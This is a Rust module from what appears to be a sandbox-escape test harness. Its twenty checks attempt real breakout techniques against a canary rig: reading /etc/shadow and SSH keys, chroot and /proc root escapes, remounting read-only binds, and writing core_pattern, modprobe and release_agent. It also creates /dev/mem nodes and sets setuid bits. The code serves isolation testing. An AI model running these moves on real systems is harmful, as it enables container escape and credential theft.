//! Files, mounts and devices: D01 to D20.

use libc::{O_CREAT, O_DIRECTORY, O_EXCL, O_NONBLOCK, O_PATH, O_RDONLY, O_RDWR, O_WRONLY};

use crate::kernel::{call, current_directory, exec, open, open_at, path, read, read_fd};
use crate::{Outcome, RIG, Stop, attempt, tell};

pub fn run(id: &str, way: &str) -> bool {
    match id {
        "D01" => secrets(),
        "D02" => climb(),
        "D03" => mount_table(),
        "D04" => read_only_root(),
        "D05" => read_only_bind(),
        "D06" => change_mounts(),
        "D07" => attempt("chroot and climb", leave_chroot),
        "D08" => inherited_descriptors(),
        "D09" => working_directory(),
        "D10" => links_in_workspace(),
        "D11" => attempt("plant a link where the report goes", plant_link),
        "D12" => write_where_the_image_points(),
        "D13" => kernel_secrets(),
        "D14" => kernel_settings(),
        "D15" => cgroups(),
        "D16" => make_devices(),
        "D17" if way == "who" => who(),
        "D17" => set_user_id(),
        "D18" if way == "who" => capabilities(),
        "D18" => file_capabilities(),
        "D19" => links_across_mounts(),
        "D20" => open_devices(),
        _ => return false,
    }
    true
}

fn secrets() {
    for file in [format!("{RIG}/host/secret"), format!("{RIG}/home/.ssh/id_canary"), "/etc/shadow".into()] {
        attempt(&file, || Ok(read(&file)?));
    }
}

fn climb() {
    let secret = format!("{RIG}/host/secret");
    let up = "/..".repeat(20);
    let ways = [
        up.clone(),
        format!("/proc/self/root{up}"),
        format!("/proc/self/cwd{up}"),
        "/proc/1/root".into(),
        format!("/proc/1/cwd{up}"),
        format!("/proc/thread-self/root{up}"),
    ];
    for way in ways {
        attempt(&format!("{}/…", way.trim_end_matches("/..")), || Ok(read(&format!("{way}{secret}"))?));
    }
    attempt("every descriptor", || {
        let mut last = libc::EBADF;
        for fd in 0..64 {
            for way in ["../".repeat(20), "./".to_owned()] {
                match open_at(fd, &format!("{way}{}", &secret[1..]), O_RDONLY, 0).and_then(read_fd) {
                    Ok(text) => return Ok(text),
                    Err(libc::EBADF | libc::ENOTDIR) => {}
                    Err(errno) => last = errno,
                }
            }
        }
        Err(last.into())
    });
    attempt("cwd of every process", || {
        let mut last = libc::ENOENT;
        for pid in 1..200 {
            for name in ["root", "cwd"] {
                match read(&format!("/proc/{pid}/{name}{up}{secret}")) {
                    Ok(text) => return Ok(text),
                    Err(libc::ENOENT) => {}
                    Err(errno) => last = errno,
                }
            }
        }
        Err(last.into())
    });
}

fn mount_table() {
    for table in ["/proc/self/mountinfo", "/proc/self/mounts", "/proc/1/mountinfo"] {
        attempt(table, || {
            let text = std::fs::read_to_string(table).map_err(|error| error.raw_os_error().unwrap_or(0))?;
            match text.contains("attackcanary") {
                true => Ok("shows the host's mounts".into()),
                false => Err(libc::ENOENT.into()),
            }
        });
    }
}

/// Creates a file, and removes it.
fn create(file: &str) -> Outcome {
    open(file, O_CREAT | O_EXCL | O_WRONLY)?;
    call(libc::SYS_unlink, &[path(file)])?;
    Ok("made a file".into())
}

fn read_only_root() {
    for file in ["/stray", "/usr/bin/stray", "/usr/stray", "/lib/stray", "/etc/stray", "/bin/stray", "/proc/stray"] {
        attempt(&format!("create {file}"), || create(file));
    }
    attempt("open /etc/passwd for writing", || Ok(format!("{}", open("/etc/passwd", O_WRONLY)?)));
    attempt("chmod /etc", || Ok(format!("{}", call(libc::SYS_chmod, &[path("/etc"), 0o777])?)));
    attempt("rename /etc/passwd", || {
        call(libc::SYS_rename, &[path("/etc/passwd"), path("/etc/passwd.old")])?;
        Ok(format!("{}", call(libc::SYS_rename, &[path("/etc/passwd.old"), path("/etc/passwd")])?))
    });
}

fn read_only_bind() {
    let file = format!("{RIG}/ro/file");
    let name = path(&file);
    let here = libc::AT_FDCWD as usize;
    let done = |result: Result<usize, i32>| Ok(result.map(|_| String::new())?);
    attempt("open for writing", || Ok(format!("{}", open(&file, O_WRONLY)?)));
    attempt("truncate", || done(call(libc::SYS_truncate, &[name, 1])));
    attempt("chmod", || done(call(libc::SYS_chmod, &[name, 0o600])));
    attempt("fchmodat2", || done(call(452, &[here, name, 0o604, 0])));
    attempt("chmod by descriptor", || {
        let fd = open(&file, O_RDONLY)?;
        done(call(libc::SYS_fchmod, &[fd as usize, 0o640]))
    });
    attempt("chmod by /proc/self/fd", || {
        let fd = open(&file, O_PATH)?;
        done(call(libc::SYS_chmod, &[path(&format!("/proc/self/fd/{fd}")), 0o641]))
    });
    attempt("chown", || done(call(libc::SYS_chown, &[name, 0, 0])));
    attempt("utimensat", || {
        let times = [1u64, 0, 1, 0];
        done(call(libc::SYS_utimensat, &[here, name, times.as_ptr() as usize, 0]))
    });
    attempt("setxattr", || {
        let value = *b"x";
        done(call(libc::SYS_setxattr, &[name, path("user.attack"), value.as_ptr() as usize, 1, 0]))
    });
    attempt("create beside it", || create(&format!("{RIG}/ro/stray")));
    attempt("rename", || {
        done(call(libc::SYS_rename, &[path(&format!("{RIG}/ro/second")), path(&format!("{RIG}/ro/moved"))]))
    });
    attempt("unlink", || done(call(libc::SYS_unlink, &[path(&format!("{RIG}/ro/third"))])));
}

const MNT_DETACH: usize = 2;
const BIND_REMOUNT: usize = (libc::MS_BIND | libc::MS_REMOUNT) as usize;

fn change_mounts() {
    let bind = format!("{RIG}/ro");
    let write = |bind: &str| Ok(format!("{}", open(&format!("{bind}/file"), O_WRONLY)?));
    attempt("remount writable", || {
        call(libc::SYS_mount, &[path("none"), path(&bind), 0, BIND_REMOUNT, 0])?;
        write(&bind)
    });
    attempt("mount_setattr", || {
        let attributes = [0u64, 1, 0, 0]; // clear MOUNT_ATTR_RDONLY
        let here = libc::AT_FDCWD as usize;
        call(libc::SYS_mount_setattr, &[here, path(&bind), 0, attributes.as_ptr() as usize, 32])?;
        write(&bind)
    });
    attempt("bind it elsewhere, writable", || {
        let place = format!("{RIG}/ws/place");
        call(libc::SYS_mkdir, &[path(&place), 0o755]).ok();
        call(libc::SYS_mount, &[path(&bind), path(&place), 0, libc::MS_BIND as usize, 0])?;
        call(libc::SYS_mount, &[path("none"), path(&place), 0, BIND_REMOUNT, 0])?;
        write(&place)
    });
    for what in [bind.as_str(), "/proc/sys", "/proc/kcore", "/proc/timer_list", "/proc", "/tmp"] {
        attempt(&format!("umount {what}"), || Ok(format!("{}", call(libc::SYS_umount2, &[path(what), MNT_DETACH])?)));
    }
    attempt("mount a tmpfs", || {
        Ok(format!("{}", call(libc::SYS_mount, &[path("x"), path(&format!("{RIG}/ws")), path("tmpfs"), 0, 0])?))
    });
    attempt("fsopen", || Ok(format!("{}", call(libc::SYS_fsopen, &[path("tmpfs"), 0])?)));
    attempt("open_tree", || Ok(format!("{}", call(libc::SYS_open_tree, &[libc::AT_FDCWD as usize, path(&bind), 1])?)));
    attempt("pivot_root", || {
        let place = path(&format!("{RIG}/ws"));
        Ok(format!("{}", call(libc::SYS_pivot_root, &[place, place])?))
    });
}

fn leave_chroot() -> Outcome {
    let start = if open(RIG, O_PATH).is_ok() { format!("{RIG}/ws") } else { "/".to_owned() };
    call(libc::SYS_chdir, &[path(&start)])?;
    call(libc::SYS_mkdir, &[path("cell"), 0o755]).ok();
    call(libc::SYS_chroot, &[path("cell")])?;
    for _ in 0..100 {
        call(libc::SYS_chdir, &[path("..")])?;
    }
    call(libc::SYS_chroot, &[path(".")])?;
    Ok(read(&format!("{RIG}/host/secret"))?)
}

fn inherited_descriptors() {
    attempt("read through a directory", || {
        let mut last = libc::EBADF;
        for fd in 3..64 {
            match open_at(fd, "secret", O_RDONLY, 0).and_then(read_fd) {
                Ok(text) => return Ok(text),
                Err(libc::EBADF | libc::ENOTDIR) => {}
                Err(errno) => last = errno,
            }
        }
        Err(last.into())
    });
    attempt("write to a socket", || {
        let mut last = libc::EBADF;
        let own = |fd: usize| call(libc::SYS_fstat, &[fd, [0u64; 32].as_mut_ptr() as usize]).is_ok();
        for fd in (3..64).filter(|fd| own(*fd)) {
            let message = *b"leak";
            match call(libc::SYS_sendto, &[fd, message.as_ptr() as usize, 4, libc::MSG_DONTWAIT as usize]) {
                Ok(_) => return Ok(format!("descriptor {fd}")),
                Err(libc::ENOTSOCK) => {}
                Err(errno) => last = errno,
            }
        }
        Err(last.into())
    });
}

fn working_directory() {
    attempt("read from here", || Ok(read("secret")?));
    attempt("read from above", || Ok(read(&format!("{}{}", "../".repeat(20), &format!("{RIG}/host/secret")[1..]))?));
    attempt("be outside", || {
        let cwd = current_directory()?;
        if cwd.starts_with('/') { Err(libc::EXDEV.into()) } else { Ok(cwd) }
    });
}

fn links_in_workspace() {
    let host = format!("{RIG}/host");
    for (name, target) in
        [("absolute", host.clone()), ("relative", format!("../../../../..{host}")), ("root", "/".into())]
    {
        let link = format!("{RIG}/ws/{name}");
        call(libc::SYS_symlink, &[path(&target), path(&link)]).ok();
        let within = if name == "root" { format!("{link}{host}") } else { link };
        attempt(&format!("read by {name} link"), || Ok(read(&format!("{within}/secret"))?));
        attempt(&format!("write by {name} link"), || {
            open(&format!("{within}/planted-{name}"), O_CREAT | O_WRONLY)?;
            Ok(String::new())
        });
    }
}

fn plant_link() -> Outcome {
    let report = format!("{RIG}/ws/report.json");
    call(libc::SYS_unlink, &[path(&report)]).ok();
    call(libc::SYS_symlink, &[path(&format!("{RIG}/host/target")), path(&report)])?;
    Err(Stop::Absent("planted; what the link points to tells".into()))
}

fn write_where_the_image_points() {
    for place in ["/dev", "/proc", "/sys", "/tmp", "/run", "/etc", "/var"] {
        attempt(&format!("create in {place}"), || {
            open(&format!("{place}/planted"), O_CREAT | O_WRONLY)?;
            Err(Stop::Absent("made; the host's directory tells".into()))
        });
    }
    attempt("read the host's directory", || Ok(read("/etc/secret")?));
}

fn kernel_secrets() {
    let some = |text: String| match text {
        text if text.is_empty() => Err(Stop::Absent("empty".into())),
        // The content for readers without privilege.
        text if text.starts_with("00000000-00000000 ") => Err(Stop::Absent("zeroes".into())),
        text => Ok(text.len().to_string()),
    };
    for file in [
        "/proc/kcore",
        "/proc/keys",
        "/proc/key-users",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/kmsg",
        "/proc/kpagecount",
        "/proc/kpageflags",
        "/proc/vmallocinfo",
        "/proc/slabinfo",
        "/proc/iomem",
        "/proc/latency_stats",
        "/sys/kernel/vmcoreinfo",
        "/sys/firmware/acpi/tables/DSDT",
        "/sys/kernel/debug/sched/debug",
        "/sys/kernel/security/lsm",
    ] {
        attempt(file, || some(read(file)?));
    }
    attempt("addresses in /proc/kallsyms", || {
        let text = read("/proc/kallsyms")?;
        if text.starts_with("00000000") { Err(Stop::Absent("zeroes".into())) } else { some(text) }
    });
    for directory in ["/proc/acpi", "/proc/scsi", "/proc/asound", "/sys/firmware", "/sys/fs/bpf", "/sys/kernel/debug"] {
        attempt(&format!("list {directory}"), || {
            let entries = std::fs::read_dir(directory).map_err(|error| error.raw_os_error().unwrap_or(0))?;
            match entries.count() {
                0 => Err(Stop::Absent("empty".into())),
                count => Ok(format!("{count} entries")),
            }
        });
    }
    attempt("write /proc/sysrq-trigger", || Ok(format!("{}", open("/proc/sysrq-trigger", O_WRONLY)?)));
}

/// Opening for writing is enough; nothing is written.
fn kernel_settings() {
    for name in [
        "kernel/core_pattern",
        "kernel/modprobe",
        "kernel/hotplug",
        "kernel/poweroff_cmd",
        "fs/suid_dumpable",
        "fs/binfmt_misc/register",
        "vm/overcommit_memory",
        "vm/panic_on_oom",
        "kernel/panic",
        "kernel/sysrq",
        "kernel/randomize_va_space",
        "kernel/kptr_restrict",
        "kernel/yama/ptrace_scope",
        "fs/protected_symlinks",
        "user/max_user_namespaces",
        "user/max_net_namespaces",
        "net/ipv4/ip_forward",
        "kernel/hostname",
        "kernel/core_pipe_limit",
    ] {
        let file = format!("/proc/sys/{name}");
        attempt(&file, || Ok(format!("{}", open(&file, O_WRONLY)?)));
    }
    for file in [
        "/sys/kernel/uevent_helper",
        "/sys/module/printk/parameters/time",
        "/proc/irq/default_smp_affinity",
        "/proc/bus/pci/00/00.0",
    ] {
        attempt(file, || Ok(format!("{}", open(file, O_WRONLY)?)));
    }
}

fn cgroups() {
    let place = format!("{RIG}/ws/cgroup");
    call(libc::SYS_mkdir, &[path(&place), 0o755]).ok();
    for kind in ["cgroup2", "cgroup"] {
        attempt(&format!("mount {kind}"), || {
            let options = if kind == "cgroup" { path("none,name=attack") } else { 0 };
            call(libc::SYS_mount, &[path("x"), path(&place), path(kind), 0, options])?;
            Ok(format!("{}", call(libc::SYS_umount2, &[path(&place), MNT_DETACH])?))
        });
    }
    let names = [
        "cgroup.procs",
        "release_agent",
        "notify_on_release",
        "memory.max",
        "pids.max",
        "memory.limit_in_bytes",
        "cgroup.subtree_control",
        "devices.allow",
        "cgroup.kill",
        "cgroup.freeze",
    ];
    attempt("open any control file for writing", || {
        let mut places = vec!["/sys/fs/cgroup".to_owned()];
        let mut last = libc::ENOENT;
        for depth in 0..3 {
            let mut below = Vec::new();
            for place in &places {
                for name in names {
                    match open(&format!("{place}/{name}"), O_WRONLY) {
                        Ok(_) => return Ok(format!("{place}/{name}")),
                        Err(libc::ENOENT) => {}
                        Err(errno) => last = errno,
                    }
                }
                if depth < 2 {
                    let entries = std::fs::read_dir(place).into_iter().flatten().flatten();
                    below
                        .extend(entries.filter(|e| e.path().is_dir()).map(|e| e.path().to_string_lossy().into_owned()));
                }
            }
            places = below;
        }
        Err(last.into())
    });
    attempt("make a cgroup", || {
        let place = "/sys/fs/cgroup/attack";
        call(libc::SYS_mkdir, &[path(place), 0o755])?;
        Ok(format!("{}", call(libc::SYS_rmdir, &[path(place)])?))
    });
}

fn make_devices() {
    let devices = [
        ("mem", libc::S_IFCHR, 1, 1),
        ("kmsg", libc::S_IFCHR, 1, 11),
        ("loop0", libc::S_IFBLK, 7, 0),
        ("sda", libc::S_IFBLK, 8, 0),
    ];
    for place in [format!("{RIG}/ws"), "/tmp".into(), "/dev".into(), "/dev/shm".into()] {
        for (name, kind, major, minor) in devices {
            attempt(&format!("mknod and open {name} in {place}"), || {
                let node = format!("{place}/attack-{name}");
                call(
                    libc::SYS_mknodat,
                    &[
                        libc::AT_FDCWD as usize,
                        path(&node),
                        (kind | 0o666) as usize,
                        libc::makedev(major, minor) as usize,
                    ],
                )?;
                let opened = open(&node, O_RDONLY | O_NONBLOCK);
                call(libc::SYS_unlink, &[path(&node)]).ok();
                Ok(format!("{}", opened?))
            });
        }
    }
}

fn set_user_id() {
    let copy = format!("{RIG}/ws/attack-copy");
    let own = std::fs::copy(format!("{RIG}/bin/attack"), &copy).map_err(|error| error.raw_os_error().unwrap_or(0));
    if let Err(errno) = own {
        return tell("copy a program", Err(errno.into()));
    }
    let (name, here) = (path(&copy), libc::AT_FDCWD as usize);
    let is_set = |file: &str| {
        let mode = std::fs::symlink_metadata(file).map(|meta| std::os::unix::fs::MetadataExt::mode(&meta)).unwrap_or(0);
        if mode & 0o6000 == 0 { Err(Stop::Absent("the bit did not stick".into())) } else { Ok(format!("{mode:o}")) }
    };
    for mode in [0o4755, 0o2755] {
        attempt(&format!("chmod {mode:o}"), || {
            call(libc::SYS_chmod, &[name, mode])?;
            is_set(&copy)
        });
        attempt(&format!("fchmod {mode:o}"), || {
            call(libc::SYS_fchmod, &[open(&copy, O_RDONLY)? as usize, mode])?;
            is_set(&copy)
        });
        attempt(&format!("fchmodat {mode:o}"), || {
            call(libc::SYS_fchmodat, &[here, name, mode])?;
            is_set(&copy)
        });
        attempt(&format!("fchmodat2 {mode:o}"), || {
            call(452, &[here, name, mode, 0])?;
            is_set(&copy)
        });
        attempt(&format!("chmod {mode:o}, high bits set"), || {
            call(libc::SYS_chmod, &[name, mode | 1 << 32])?;
            is_set(&copy)
        });
        attempt(&format!("create with {mode:o}"), || {
            let file = format!("{RIG}/ws/born-{mode:o}");
            open_at(libc::AT_FDCWD, &file, O_CREAT | O_EXCL | O_WRONLY, mode as u32)?;
            is_set(&file)
        });
        attempt(&format!("openat2 with {mode:o}"), || {
            let file = format!("{RIG}/ws/born2-{mode:o}");
            let how = [(O_CREAT | O_EXCL | O_WRONLY) as u64, mode as u64, 0];
            call(libc::SYS_openat2, &[here, path(&file), how.as_ptr() as usize, 24])?;
            is_set(&file)
        });
        attempt(&format!("mknod with {mode:o}"), || {
            let file = format!("{RIG}/ws/node-{mode:o}");
            call(libc::SYS_mknodat, &[here, path(&file), libc::S_IFREG as usize | mode, 0])?;
            is_set(&file)
        });
    }
    attempt("run it", || {
        call(libc::SYS_chmod, &[name, 0o755])?;
        call(libc::SYS_chown, &[name, 0, 0]).ok();
        call(libc::SYS_chmod, &[name, 0o4755]).ok();
        Err(exec(&copy, &["attack", "D17", "who"]).into())
    });
}

/// Run as a program with set-id bits: whether they had an effect.
fn who() {
    let [real, effective] = [libc::SYS_getuid, libc::SYS_geteuid].map(|number| call(number, &[]).unwrap_or(0));
    let gained = effective != real;
    tell("become another user", if gained { Ok(format!("{effective}, was {real}")) } else { Err(libc::EPERM.into()) });
}

fn file_capabilities() {
    for name in ["capped", "capped-inherit"] {
        attempt(&format!("execute {name}"), || Err(exec(&format!("{RIG}/ro/{name}"), &[name, "D18", "who"]).into()));
    }
}

fn capabilities() {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let value = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name)).unwrap_or("0");
        u64::from_str_radix(line.trim_start_matches(':').trim(), 16).unwrap_or(0)
    };
    let gained = value("CapEff") & 1 << 21;
    let name = std::env::args().next().unwrap_or_default();
    tell(
        &format!("gain CAP_SYS_ADMIN by {name}"),
        if gained == 0 { Err(libc::EPERM.into()) } else { Ok("gained".into()) },
    );
}

fn links_across_mounts() {
    let [fixed, free] = [format!("{RIG}/ro/file"), format!("{RIG}/ws/f")];
    open(&free, O_CREAT | O_WRONLY).ok();
    let here = libc::AT_FDCWD as usize;
    attempt("link out of read-only", || {
        Ok(format!("{}", call(libc::SYS_link, &[path(&fixed), path(&format!("{RIG}/ws/linked"))])?))
    });
    attempt("link by descriptor", || {
        let fd = open(&fixed, O_RDONLY)?;
        let from = path(&format!("/proc/self/fd/{fd}"));
        Ok(format!(
            "{}",
            call(
                libc::SYS_linkat,
                &[here, from, here, path(&format!("{RIG}/ws/linked2")), libc::AT_SYMLINK_FOLLOW as usize]
            )?
        ))
    });
    attempt("rename into read-only", || {
        Ok(format!("{}", call(libc::SYS_rename, &[path(&free), path(&format!("{RIG}/ro/got"))])?))
    });
    attempt("rename out of read-only", || {
        Ok(format!("{}", call(libc::SYS_rename, &[path(&fixed), path(&format!("{RIG}/ws/got"))])?))
    });
}

fn open_devices() {
    for name in [
        "sda",
        "vda",
        "mem",
        "port",
        "kmsg",
        "fuse",
        "kvm",
        "net/tun",
        "vsock",
        "vhost-vsock",
        "vhost-net",
        "loop-control",
        "loop0",
        "rtc0",
        "input/event0",
        "console",
        "mapper/control",
        "userfaultfd",
        "tty0",
        "ttyS0",
        "hwrng",
        "cpu/0/msr",
        "nvram",
        "snapshot",
        "uinput",
    ] {
        attempt(name, || Ok(format!("{}", open(&format!("/dev/{name}"), O_RDONLY | O_NONBLOCK | libc::O_NOCTTY)?)));
    }
    attempt("list /dev/disk", || Ok(format!("{}", open("/dev/disk", O_RDONLY | O_DIRECTORY)?)));
    attempt("open /dev/mem for writing", || Ok(format!("{}", open("/dev/mem", O_RDWR)?)));
}
